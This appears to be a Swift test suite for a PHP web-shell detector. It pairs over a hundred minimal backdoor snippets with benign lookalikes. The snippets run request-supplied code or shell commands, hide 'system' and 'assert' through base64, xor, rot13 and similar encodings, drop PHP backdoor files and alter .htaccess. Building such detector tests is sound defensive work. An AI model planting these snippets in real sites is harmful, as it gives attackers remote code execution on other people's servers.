import Emulation
import Testing

@testable import PHPEmulation

/// Each way that shells disguise themselves, in its smallest form, beside an honest file that does something similar.
@Suite struct EvasionTests {
  @Test(arguments: evasions) func shellIsProved(_ evasion: Evasion) {
    let result = emulate(evasion.shell)
    #expect(result.predicates.contains(evasion.predicate), "\(evasion.name): \(result.proofs) \(result.syntaxErrors)")
    #expect(result.proofs.allSatisfy { !$0.path.isEmpty && $0.path.allSatisfy { $0.line > 0 && !$0.what.isEmpty } })
  }

  @Test(arguments: evasions) func lookalikeIsNot(_ evasion: Evasion) {
    let result = emulate(evasion.benign)
    #expect(result.strong.isEmpty, "\(evasion.name): \(result.proofs)")
    #expect(result.syntaxErrors == 0)
  }

  static let evasions: [Evasion] = [
    Evasion("direct eval", .taintedCode, "@eval($_POST['x']);", benign: "echo htmlspecialchars($_POST['x']);"),
    Evasion("assert", .taintedCode, "assert($_REQUEST['x']);", benign: "assert(is_string($_REQUEST['x']));"),
    Evasion("direct command", .taintedCommand, "system($_GET['c']);", benign: "system('ls ' . (int) $_GET['c']);"),
    Evasion(
      "escaped command", .taintedCommand, "passthru($_GET['c']);",
      benign: "passthru('id ' . escapeshellarg($_GET['c']));"),
    Evasion("backticks", .taintedCommand, "echo `$_GET[c]`;", benign: "echo `uptime`;"),
    Evasion(
      "variable function", .taintedCommand, "$f = 'system'; $f($_GET['c']);",
      benign: "$f = 'strlen'; echo $f($_GET['c']);"),
    Evasion(
      "array element as function", .taintedCall, "$_GET['a']($_POST['b']);",
      benign: "$m = ['a' => 'strlen']; $m[$_GET['a']]($_POST['b']);"),
    Evasion(
      "allow-list", .taintedCall, "$f = $_GET['f']; call_user_func($f, $_GET['x']);",
      benign: "$f = $_GET['f']; if (in_array($f, ['trim', 'strlen'])) call_user_func($f, $_GET['x']);"),
    Evasion(
      "prefix", .taintedCall, "array_map($_GET['f'], [$_GET['x']]);",
      benign: "call_user_func('action_' . $_GET['f'], $_GET['x']);"),
    Evasion(
      "method dispatch", .taintedCall, "array_filter([$_POST['x']], $_POST['f']);",
      benign: "class C { function run() { $m = $_GET['m']; $this->$m($_POST['x']); } } (new C)->run();"),
    Evasion(
      "base64 eval", .derivedCode, "eval(base64_decode('ZWNobyAxOw=='));", benign: "echo base64_decode('ZWNobyAxOw==');"
    ),
    Evasion(
      "gzinflate", .derivedCode, "eval(gzinflate(base64_decode('S03OyFcwtAYA')));",
      benign: "echo gzinflate(base64_decode('S03OyFcwtAYA'));"),
    Evasion("rot13", .hiddenCall, "$f = str_rot13('flfgrz'); $f('true');", benign: "echo str_rot13('flfgrz');"),
    Evasion("strrev", .hiddenCall, "$f = strrev('metsys'); $f('true');", benign: "$f = strrev('nelrts'); $f('true');"),
    Evasion("concatenation", .hiddenCall, "$f = 'sys' . 'tem'; $f('true');", benign: "$f = 'str' . 'len'; $f('true');"),
    Evasion(
      "in-place concatenation", .hiddenCall, "$f = 'sy'; $f .= 's'; $f .= 'tem'; $f('true');",
      benign: "$f = 'str'; $f .= 'len'; $f('true');"),
    Evasion(
      "character index", .taintedCommand,
      "$s = 'metsy'; $f = $s[4] . $s[3] . $s[4] . $s[2] . $s[1] . $s[0]; $f = 's' . 'y' . 'stem'; $f($_GET['c']);",
      benign: "$s = 'abc'; echo $s[0] . $_GET['c'];"),
    Evasion(
      "old offsets", .hiddenCall, "$s = 'metsy'; $f = $s{3} . $s{4} . $s{3} . $s{2} . $s{1} . $s{0}; $f('true');",
      benign: "$s = 'abc'; echo $s{0};"),
    Evasion(
      "chr chain", .hiddenCall, "$f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $f('true');",
      benign: "echo chr(65) . chr(10);"),
    Evasion(
      "hex escapes", .taintedCommand, "$f = \"\\x73\\171\\x73\\164em\"; $f($_GET['c']);", benign: "echo \"\\x41\\102\";"
    ),
    Evasion("xor", .hiddenCall, "$f = ('!' ^ '@') . 'ssert'; $f('true');", benign: "$x = 5 ^ 3; echo $x;"),
    Evasion("not", .taintedCommand, "$f = ~\"\\x8c\\x86\\x8c\\x8b\\x9a\\x92\"; $f($_GET['c']);", benign: "echo ~5;"),
    Evasion(
      "symbols only", .taintedCode, "$_ = ('%01' ^ '`'); $_ = 'a'; $_++; $__ = $_POST; eval($__['x']);",
      benign: "$_ = 'a'; $_++; echo $_;"),
    Evasion(
      "increments", .hiddenCall, "$a = 'a'; for ($i = 0; $i < 18; $i++) $a++; $f = $a . 'ystem'; $f('true');",
      benign: "$i = 0; $i++; echo $i;"),
    Evasion(
      "array to letter", .hiddenCall, "$_ = []; $_ = @\"$_\"; $a = $_[0]; $f = strtolower($a) . 'ssert'; $f('true');",
      benign: "$x = 'Array'; echo $x[0];"),
    Evasion(
      "str_replace junk", .hiddenCall, "$f = str_replace('x', '', 'sxyxsxtxexm'); $f('true');",
      benign: "$f = str_replace('x', '', 'sxtxrxlxexn'); $f('true');"),
    Evasion(
      "strtr", .hiddenCall, "$f = strtr('abctem', ['abc' => 'sys']); $f('true');",
      benign: "echo strtr('abctem', 'abc', 'sys');"),
    Evasion(
      "pack", .hiddenCall, "$f = pack('H*', '73797374656d'); $f('true');", benign: "echo pack('H*', '73797374656d');"),
    Evasion("hex2bin", .derivedCode, "eval(hex2bin('6563686f20313b'));", benign: "echo hex2bin('6563686f20313b');"),
    Evasion(
      "urldecode index", .hiddenCall,
      "$s = urldecode('%6E1%7A%62%2F%6D%615%5C%76%740%6928%2D%70%78%75%71%79%2A6%6C%72%6B%64%679%5F%65%68%63%73%77%6F4%2B%6637%6A'); $f = $s{33}.$s{20}.$s{33}.$s{10}.$s{30}.$s{5}; $f = substr('xsystem', 1); $f('true');",
      benign: "echo urldecode('%41')[0];"),
    Evasion(
      "GLOBALS", .taintedCommand, "$GLOBALS['f'] = 'system'; $GLOBALS['f']($_GET['c']);",
      benign: "$GLOBALS['config'] = ['a' => 1]; echo $GLOBALS['config']['a'];"),
    Evasion(
      "GLOBALS alias", .taintedCode, "$g = $GLOBALS; eval($g['_POST']['x']);", benign: "$g = $GLOBALS; echo count($g);"),
    Evasion(
      "variable variable", .taintedCode, "$n = '_PO' . 'ST'; eval($$n['x'] ?? ${$n}['x']);",
      benign: "$n = 'title'; $$n = 'x'; echo $title;"),
    Evasion("braced variable", .taintedCode, "eval(${'_P' . 'OST'}['x']);", benign: "${'a b'} = 1; echo ${'a b'};"),
    Evasion("extract", .taintedCode, "extract($_POST); eval($code);", benign: "extract(['code' => '1']); echo $code;"),
    Evasion(
      "parse_str", .taintedCall, "parse_str($_SERVER['QUERY_STRING']); $f($x);",
      benign: "parse_str($_SERVER['QUERY_STRING'], $q); echo $q['x'];"),
    Evasion("callback", .dangerousCallback, "array_map('assert', ['x']);", benign: "array_map('trim', $_POST);"),
    Evasion("usort", .taintedCode, "usort($_GET, 'assert');", benign: "usort($_GET, 'strcmp');"),
    Evasion("usort spread", .taintedCall, "usort(...$_GET);", benign: "max(...$_GET);"),
    Evasion(
      "array_walk keys", .taintedCode, "array_walk($_POST, function ($v, $k) { eval($k); });",
      benign: "array_walk($_POST, function (&$v, $k) { $v = trim($v); });"),
    Evasion(
      "array_udiff_assoc", .taintedCode, "array_udiff_assoc([$_REQUEST['x']], [1], 'assert');",
      benign: "array_udiff_assoc([$_REQUEST['x']], [1], 'strcmp');"),
    Evasion(
      "shutdown", .taintedCommand, "register_shutdown_function('system', $_GET['c']);",
      benign: "register_shutdown_function('session_write_close');"),
    Evasion(
      "ob_start", .dangerousCallback, "ob_start('assert'); echo $_GET['x']; ob_end_flush();",
      benign: "ob_start('ob_gzhandler'); echo 1;"),
    Evasion(
      "filter_var", .taintedCode, "filter_var($_REQUEST['x'], FILTER_CALLBACK, ['options' => 'assert']);",
      benign: "filter_var($_REQUEST['x'], FILTER_VALIDATE_INT, ['options' => ['min_range' => 1]]);"),
    Evasion(
      "preg_replace_callback", .taintedCode,
      "preg_replace_callback('/.+/i', function ($m) { eval($m[0]); }, $_POST['x']);",
      benign: "preg_replace_callback('/a/', function ($m) { return strtoupper($m[0]); }, $_POST['x']);"),
    Evasion(
      "preg /e", .taintedCode, "preg_replace('/.*/e', $_POST['x'], '');",
      benign: "preg_replace('/.*/', $_POST['x'], '');"),
    Evasion(
      "preg /e on the subject", .taintedCode, "preg_replace('/(.*)/e', '\\\\1', $_POST['x']);",
      benign: "preg_replace('/(.*)/i', '\\\\1', $_POST['x']);"),
    Evasion(
      "mb_ereg_replace e", .taintedCode, "mb_ereg_replace('.*', $_GET['x'], '', 'e');",
      benign: "mb_ereg_replace('.*', $_GET['x'], '', 'i');"),
    Evasion(
      "create_function", .taintedCode, "$f = create_function('', $_POST['x']); $f();",
      benign: "$f = create_function('$a', 'return $a + 1;'); echo $f(1);"),
    Evasion(
      "Reflection", .taintedCommand, "(new ReflectionFunction('system'))->invoke($_GET['c']);",
      benign: "echo (new ReflectionFunction('strlen'))->invoke($_GET['c']);"),
    Evasion(
      "ReflectionClass", .taintedCommand,
      "class S { function __construct($c) { system($c); } } $r = new ReflectionClass('S'); $r->newInstance($_GET['c']);",
      benign:
        "class S { function __construct($c) { echo strlen($c); } } $r = new ReflectionClass('S'); $r->newInstance($_GET['c']);"
    ),
    Evasion(
      "fromCallable", .taintedCommand, "$f = Closure::fromCallable('system'); $f($_GET['c']);",
      benign: "$f = Closure::fromCallable('strlen'); $f($_GET['c']);"),
    Evasion(
      "first-class callable", .taintedCommand, "$f = system(...); $f($_GET['c']);",
      benign: "$f = strlen(...); $f($_GET['c']);"),
    Evasion(
      "doc comment", .derivedCode,
      "/** ZWNobyAxOw== */ class D {} $c = (new ReflectionClass('D'))->getDocComment(); eval(base64_decode(substr($c, 4, 12)));",
      benign: "/** text */ class D {} echo (new ReflectionClass('D'))->getDocComment();"),
    Evasion(
      "file name as key", .hiddenCall,
      "$k = basename(__FILE__, '.php'); $f = ('+' ^ '^' ) . 'x'; $f = strtr($k, 'x', 's') . 'ystem'; $f('true');",
      benign: "echo basename(__FILE__, '.php');"),
    Evasion(
      "trait", .taintedCode,
      "trait T { public function go() { eval($_POST['x']); } } class U { use T; } (new U)->go();",
      benign: "trait T { public function go() { return 1; } } class U { use T; } (new U)->go();"),
    Evasion(
      "destructor", .taintedCode,
      "class D { public $c; function __destruct() { eval($this->c); } } $d = new D; $d->c = $_POST['x'];",
      benign: "class D { public $c; function __destruct() { $this->c = null; } } $d = new D; $d->c = $_POST['x'];"),
    Evasion(
      "unserialize wakeup", .taintedCode,
      "class W { public $a; function __wakeup() { eval($_POST[$this->a]); } } unserialize('O:1:\"W\":1:{s:1:\"a\";s:1:\"x\";}');",
      benign:
        "class W { public $a; function __wakeup() { $this->a = 1; } } unserialize('O:1:\"W\":1:{s:1:\"a\";s:1:\"x\";}');"
    ),
    Evasion(
      "magic call", .taintedCommand, "class M { function __call($n, $a) { $n($a[0]); } } (new M)->system($_GET['c']);",
      benign: "class M { function __call($n, $a) { return $n; } } (new M)->system($_GET['c']);"),
    Evasion(
      "invoke", .taintedCode, "class I { function __invoke($c) { eval($c); } } $i = new I; $i($_POST['x']);",
      benign: "class I { function __invoke($c) { return $c; } } $i = new I; $i($_POST['x']);"),
    Evasion(
      "toString", .taintedCode, "class X { function __toString() { return $_POST['x']; } } eval((string) new X);",
      benign: "class X { function __toString() { return $_POST['x']; } } echo new X;"),
    Evasion(
      "anonymous class", .taintedCode, "(new class { function go($c) { eval($c); } })->go($_POST['x']);",
      benign: "(new class { function go($c) { echo $c; } })->go($_POST['x']);"),
    Evasion(
      "static method", .taintedCode,
      "class A { static function b($c) { eval($c); } } call_user_func('A::b', $_POST['x']);",
      benign: "class A { static function b($c) { return $c; } } call_user_func('A::b', $_POST['x']);"),
    Evasion(
      "arrow function", .taintedCode, "$f = fn($c) => eval($c); $f($_POST['x']);",
      benign: "$f = fn($c) => trim($c); $f($_POST['x']);"),
    Evasion(
      "closure by reference", .taintedCode,
      "$c = ''; $f = function () use (&$c) { eval($c); }; $c = $_POST['x']; $f();",
      benign: "$c = ''; $f = function () use (&$c) { echo $c; }; $c = $_POST['x']; $f();"),
    Evasion(
      "never called", .taintedCode, "function a() { eval($_POST['x']); }", benign: "function a($code) { return $code; }"
    ),
    Evasion(
      "hook", .taintedCode, "add_action('init', function () { eval($_POST['x']); });",
      benign: "add_action('init', function () { echo 1; });"),
    Evasion(
      "goto", .taintedCode, "goto b; a: eval($c); goto c; b: $c = $_POST['x']; goto a; c:",
      benign: "goto b; a: echo $c; goto c; b: $c = $_POST['x']; goto a; c:"),
    Evasion(
      "input stream", .taintedCode, "eval(file_get_contents('php://input'));",
      benign: "$j = json_decode(file_get_contents('php://input'), true); echo $j['x'];"),
    Evasion("include of input", .includedInput, "include 'php://input';", benign: "include 'header.php';"),
    Evasion(
      "include of data", .includedInput, "include 'data://text/plain;base64,PD9waHAgZWNobyAxOw==';",
      benign: "include __DIR__ . '/data.php';"),
    Evasion(
      "include of data from the request", .includedInput, "include 'data:text/plain,' . $_GET['x'];",
      benign: "include 'pages/' . (int) $_GET['x'] . '.php';"),
    Evasion(
      "include of an upload", .includedInput, "include $_FILES['f']['tmp_name'];",
      benign: "move_uploaded_file($_FILES['f']['tmp_name'], 'up/' . md5($_FILES['f']['name']) . '.jpg');"),
    Evasion(
      "written, then included", .taintedCode,
      "$t = tempnam('/tmp', 'x'); file_put_contents($t, $_POST['x']); include $t;",
      benign: "$t = tempnam('/tmp', 'x'); file_put_contents($t, $_POST['x']); echo filesize($t);"),
    Evasion(
      "written code", .writtenCode, "file_put_contents('a.php', $_POST['x']);",
      benign: "file_put_contents('a.txt', $_POST['x']);"),
    Evasion(
      "written with a handle", .writtenCode, "$h = fopen('a.phtml', 'w'); fwrite($h, $_POST['x']);",
      benign: "$h = fopen('a.log', 'a'); fwrite($h, $_POST['x']);"),
    Evasion(
      "upload as code", .writtenCode, "move_uploaded_file($_FILES['f']['tmp_name'], 'x.php');",
      benign: "move_uploaded_file($_FILES['f']['tmp_name'], 'x.jpg');"),
    Evasion(
      "COM", .commandComponent, "$w = new COM('WScript.Shell'); $w->exec('id');",
      benign: "$w = new COM('Word.Application');"),
    Evasion(
      "cookie channel", .taintedCode,
      "if (isset($_COOKIE['k'])) { $c = $_COOKIE; $f = $c['a']; $g = base64_decode($c['b']); eval($g); }",
      benign: "if (isset($_COOKIE['k'])) { $c = $_COOKIE; echo htmlspecialchars($c['a']); }"),
    Evasion(
      "headers", .taintedCode, "$h = getallheaders(); eval($h['X-A']);", benign: "$h = getallheaders(); echo count($h);"
    ),
    Evasion(
      "server variable", .taintedCommand, "system($_SERVER['HTTP_USER_AGENT']);",
      benign: "exec('host ' . $_SERVER['SERVER_NAME']);"),
    Evasion(
      "encrypted channel", .taintedCode,
      "$k = 'key'; $d = base64_decode($_POST['x']); for ($i = 0; $i < strlen($d); $i++) { $d[$i] = $d[$i] ^ $k[$i % 3]; } eval($d);",
      benign:
        "$k = 'key'; $d = base64_decode($_POST['x']); for ($i = 0; $i < strlen($d); $i++) { $d[$i] = $d[$i] ^ $k[$i % 3]; } echo $d;"
    ),
    Evasion(
      "openssl channel", .taintedCode,
      "$p = openssl_decrypt(file_get_contents('php://input'), 'AES128', 'k'); $a = explode('|', $p); eval($a[1]);",
      benign: "$p = openssl_decrypt($_COOKIE['s'], 'AES128', 'k'); $a = explode('|', $p); echo $a[1];"),
    Evasion(
      "branches", .taintedCode, "if (isset($_POST['x'])) { $c = $_POST['x']; } else { $c = ''; } eval($c);",
      benign: "if (isset($_POST['x'])) { $c = 1; } else { $c = 2; } echo $c;"),
    Evasion(
      "ternary", .taintedCode, "eval(isset($_POST['x']) ? $_POST['x'] : '');",
      benign: "echo isset($_POST['x']) ? $_POST['x'] : '';"),
    Evasion("nested eval", .taintedCode, "eval('eval($_POST[\"x\"]);');", benign: "eval('$x = 1;'); echo $x;"),
    Evasion(
      "eval of parts", .taintedCode, "eval('$y = ' . $_GET['x'] . ';');",
      benign: "eval('$y = ' . (int) $_GET['x'] . ';');"),
    Evasion(
      "comment stuffing", .taintedCode, "/*a*/eval/*b*/(/*c*/$_POST/*d*/['x'])/*e*/;",
      benign: "/*a*/echo/*b*/(/*c*/$_POST/*d*/['x'])/*e*/;"),
    Evasion(
      "high-byte names", .taintedCode, "function \u{e9}\u{e8}($\u{e0}) { eval($\u{e0}); } \u{e9}\u{e8}($_POST['x']);",
      benign: "function \u{e9}($\u{e0}) { echo $\u{e0}; } \u{e9}($_POST['x']);"),
    Evasion("case", .taintedCode, "$F = 'AsSeRt'; $F($_POST['x']);", benign: "$F = 'StrLen'; $F($_POST['x']);"),
    Evasion(
      "heredoc", .taintedCode, "$c = <<<E\n\\$x = \\$_POST['x']; eval(\\$x);\nE;\neval($c);",
      benign: "$c = <<<E\nHello {$_POST['x']}\nE;\necho $c;"),
    Evasion(
      "nowdoc", .taintedCode, "$c = <<<'E'\neval($_POST['x']);\nE;\neval($c);",
      benign: "$c = <<<'E'\neval($_POST['x']);\nE;\necho $c;"),
    Evasion(
      "constant", .taintedCommand, "define('F', 'system'); $f = F; $f($_GET['c']);",
      benign: "define('F', 'strlen'); $f = F; $f($_GET['c']);"),
    Evasion(
      "array functions", .hiddenCall, "$a = array_merge(['sys'], ['tem']); $f = implode('', $a); $f('true');",
      benign: "$a = array_merge(['str'], ['len']); $f = implode('', $a); $f('true');"),
    Evasion(
      "explode", .taintedCommand, "list($a, $b) = explode('|', 'sys|tem'); $f = $a . $b; $f($_GET['c']);",
      benign: "list($a, $b) = explode('|', $_GET['c']); echo $a . $b;"),
    Evasion(
      "range", .hiddenCall, "$l = range('a', 'z'); $f = $l[18].$l[24].$l[18].$l[19].$l[4].$l[12]; $f('true');",
      benign: "$l = range('a', 'z'); echo $l[3];"),
    Evasion(
      "digest", .hiddenCall, "$f = substr(md5('a'), 1, 1) == 'c' ? 'sys' . 'tem' : ''; $f('true');",
      benign: "echo substr(md5('a'), 0, 8);"),
    Evasion(
      "method result", .taintedCode, "class G { function p() { return $_POST['x']; } } $g = new G; eval($g->p());",
      benign: "class G { function p() { return $_POST['x']; } } $g = new G; echo $g->p();"),
    Evasion(
      "list and each", .taintedCode, "foreach ($_POST as $k => $v) { eval($v); }",
      benign: "foreach ($_POST as $k => $v) { echo $v; }"),
    Evasion(
      "while each", .taintedCode, "while (list($k, $v) = each($_POST)) { eval($v); }",
      benign: "while (list($k, $v) = each($a)) { echo $v; }"),
    Evasion(
      "current and end", .taintedCall, "$a = end($_GET); $b = current($_GET); $b($a);",
      benign: "$a = end($_GET); echo $a;"),
    Evasion(
      "exif", .unknownCode, "$e = exif_read_data('a.jpg'); eval($e['Model']);",
      benign: "$e = exif_read_data('a.jpg'); echo $e['Model'];"),
    Evasion(
      "mail parameters", .taintedCommand, "mail('a@b', 's', 't', '', $_GET['x']);",
      benign: "mail('a@b', 's', 't', 'From: x', '-fa@b');"),
    Evasion(
      "yaml callbacks", .taintedCode, "yaml_parse($_GET['x'], 0, $n, ['!c' => 'assert']);",
      benign: "yaml_parse($_GET['x']);"),
    Evasion(
      "tainted class", .taintedCall, "new $_GET['a']($_GET['b']);",
      benign: "$c = 'Page_' . $_GET['a']; new $c($_GET['b']);"),
    Evasion("odd include", .oddInclude, "include 'logo.jpg';", benign: "readfile('logo.jpg');"),
    Evasion(
      "tainted include", .taintedInclude, "include $_GET['p'];",
      benign: "if (in_array($_GET['p'], ['a', 'b'])) include $_GET['p'];"),
    Evasion(
      "tainted write", .taintedWrite, "file_put_contents($_POST['n'], $_POST['c']);",
      benign: "file_put_contents('cache/' . md5($_POST['n']), $_POST['c']);"),
    Evasion(
      "tainted upload", .taintedUpload, "copy($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
      benign: "copy($_FILES['f']['tmp_name'], 'x.png');"),
    Evasion(
      "dropper", .droppedCode, "file_put_contents('x.php', '<?php echo 1;');",
      benign: "file_put_contents('x.txt', 'text');"),
    Evasion(
      "dropped door", .taintedCode, "file_put_contents('x.php', '<?php eval($_POST[1]);');",
      benign: "file_put_contents('x.html', '<b>1</b>');"),
    Evasion("hidden command", .hiddenCommand, "system(base64_decode('aWQ='));", benign: "system('id');"),
    Evasion(
      "mailer", .taintedMail, "mail($_POST['to'], $_POST['s'], $_POST['b']);",
      benign: "mail('me@example.org', $_POST['s'], $_POST['b']);"),
    Evasion(
      "database front end", .taintedQuery,
      "mysql_connect($_POST['h'], $_POST['u'], $_POST['p']); mysql_query($_POST['q']);",
      benign: "mysql_connect('localhost', 'u', 'p'); mysql_query($_POST['q']);"),
    Evasion(
      "unserialize", .taintedObject, "unserialize($_COOKIE['x']);", benign: "unserialize(file_get_contents('a'));"),
    Evasion(
      "preg /e with known code", .evaluatedReplacement, "preg_replace('/x/e', 'phpinfo()', 'x');",
      benign: "preg_replace('/x/e', 'strtoupper(\"a\")', 'x');"),
    Evasion(
      "upload in a file that stands alone", .writtenCode, "copy($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
      benign: "require 'login.php'; copy($_FILES['f']['tmp_name'], $_FILES['f']['name']);"),
    Evasion(
      "write in a file that stands alone", .writtenCode, "file_put_contents($_POST['n'], $_POST['c']);",
      benign: "check_login(); file_put_contents($_POST['n'], $_POST['c']);"),
    Evasion(
      "include in a file that stands alone", .includedInput, "include $_GET['p'];",
      benign: "$app->run(); include $_GET['p'];"),
    Evasion(
      "bare words", .hiddenCall, "$f = base64_decode(c3.lz . dGV . t); $f('true');", benign: "echo PHP_EOL . FOO;"),
    Evasion(
      "bare words and symbols", .hiddenCall, "$f = ('XX' ^ AAQ) . 'x'; $f = ('  ' | SYS) . tem; $f('true');",
      benign: "if (DEBUG) { echo VERSION; }"),
    Evasion(
      "characters from numbers", .taintedCode,
      "$c = ''; for ($i = 0; $i < strlen($_POST['h']); $i += 2) { $c .= chr(hexdec(substr($_POST['h'], $i, 2))); } eval($c);",
      benign:
        "$c = ''; for ($i = 0; $i < strlen($_POST['h']); $i += 2) { $c .= hexdec(substr($_POST['h'], $i, 2)); } echo $c;"
    ),
    Evasion(
      "key of an array", .taintedCall, "$e = $_REQUEST['e']; $a = ['t' => 1, $_REQUEST['p'] => 2]; uksort($a, $e);",
      benign: "$a = ['t' => 1, $_REQUEST['p'] => 2]; uksort($a, 'strcmp');"),
    Evasion(
      "call with unpacked code", .taintedCall, "call_user_func($_GET['f'], base64_decode('QGV2YWwoMSk7'));",
      benign: "call_user_func($_GET['f'], 'title');"),
    Evasion(
      "unserialised property", .taintedCode,
      "class E { var $v = ''; function __destruct() { eval($this->v); } } unserialize($_GET['s']);",
      benign: "class E { var $v = ''; function __destruct() { echo $this->v; } } unserialize('i:1;');"),
    Evasion(
      "session", .taintedCode,
      "session_start(); if (isset($_SESSION['p'])) { eval($_SESSION['p']); } else { $_SESSION['p'] = $_POST['x']; }",
      benign:
        "session_start(); if (isset($_SESSION['p'])) { echo $_SESSION['p']; } else { $_SESSION['p'] = $_POST['x']; }"),
    Evasion(
      "GLOBALS replaced", .taintedCommand, "$GLOBALS = ['f' => 'system']; $GLOBALS['f']($_GET['c']);",
      benign: "$GLOBALS = ['f' => 'strlen']; $GLOBALS['f']($_GET['c']);"),
    Evasion(
      "stylesheet", .dangerousCallback,
      "DOMDocument::loadXML('<x select=\"z:function(\\'assert\\',string(.))\"/>');",
      benign: "DOMDocument::loadXML('<x select=\"a\"/>');"),
    Evasion(
      "database callback", .taintedCall, "$d = new SQLite3('x'); $d->createFunction('f', $_GET['f']);",
      benign: "$d = new SQLite3('x'); $d->createFunction('f', 'strlen');"),
    Evasion(
      "server directives", .droppedCode, "file_put_contents('.htaccess', 'AddHandler application/x-httpd-php .jpg');",
      benign: "file_put_contents('.htaccess', 'Deny from all');"),
    Evasion(
      "default of a request's value", .taintedCommand,
      "if (empty($_POST['c'])) $_POST['c'] = 'id'; system($_POST['c']);",
      benign: "$c = $_POST['c']; if (!in_array($c, ['a', 'b'])) $c = 'a'; system($c);"),
    Evasion(
      "default of a variable", .taintedCode, "$c = $_POST['c']; if ($c == '') { $c = '1;'; } eval($c);",
      benign: "$c = $_POST['c']; if (!ctype_alnum($c)) { $c = '1;'; } echo $c;"),
    Evasion(
      "session with a masked payload", .taintedCode,
      """
      function m($d, $k) { for ($i = 0; $i < strlen($d); $i++) { $c = $k[$i + 1 & 15]; $d[$i] = $d[$i] ^ $c; } return $d; }
      session_start(); $k = '0123456789abcdef'; $d = m(file_get_contents('php://input'), $k);
      if (isset($_SESSION['p'])) { eval(m($_SESSION['p'], $k)); } else { $_SESSION['p'] = m($d, $k); }
      """,
      benign: """
        function m($d, $k) { for ($i = 0; $i < strlen($d); $i++) { $d[$i] = $d[$i] ^ $k[$i & 15]; } return $d; }
        session_start(); $k = '0123456789abcdef'; $_SESSION['p'] = m($_POST['x'], $k); echo m($_SESSION['p'], $k);
        """),
  ]
}
